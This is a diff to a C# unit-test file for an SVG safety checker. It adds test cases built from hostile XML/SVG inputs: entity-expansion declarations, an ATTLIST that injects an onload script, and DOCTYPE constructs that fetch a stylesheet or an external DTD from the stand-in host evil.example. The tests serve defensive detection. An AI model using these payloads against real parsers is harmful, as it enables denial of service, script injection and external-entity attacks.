@@ -60,8 +60,10 @@ public sealed class SvgTests
     }
 
     [Theory]
-    [InlineData("<!DOCTYPE svg [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>\n<svg {0}>&b;</svg>", "the picture declares things of its own with <!ENTITY", 1)]
-    [InlineData("<!DOCTYPE svg [\n<!ATTLIST svg onload CDATA \"alert(1)\">]>\n<svg {0}/>", "the picture declares things of its own with <!ATTLIST", 2)]
+    [InlineData("<!DOCTYPE svg [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>\n<svg {0}>&b;</svg>", "<!DOCTYPE> declares things of its own", 1)]
+    [InlineData("<!DOCTYPE svg [\n<!ATTLIST svg onload CDATA \"alert(1)\">]>\n<svg {0}/>", "<!DOCTYPE> declares things of its own", 1)]
+    [InlineData("<!-- <!DOCTYPE svg> -->\n<!DOCTYPE svg [ <?xml-stylesheet href=\"https://evil.example/x.xsl\"?> ]><svg {0}/>", "<!DOCTYPE> declares things of its own", 1)]
+    [InlineData("<!DOCTYPE svg PUBLIC \"a>b\" \"c\" [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\">%x;]><svg {0}/>", "<!DOCTYPE> declares things of its own", 1)]
     [InlineData("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n<svg {0}/>", "the picture says that it is in UTF-7", 1)]
     [InlineData("<?xml version=\"1.0\" encoding=\"iso-2022-jp\"?>\n<svg {0}/>", "the picture says that it is in iso-2022-jp", 1)]
     [InlineData("<?xml-stylesheet type=\"text/xsl\" href=\"#x\"?><svg {0}/>", "<?xml-stylesheet?> loads a style", 1)]
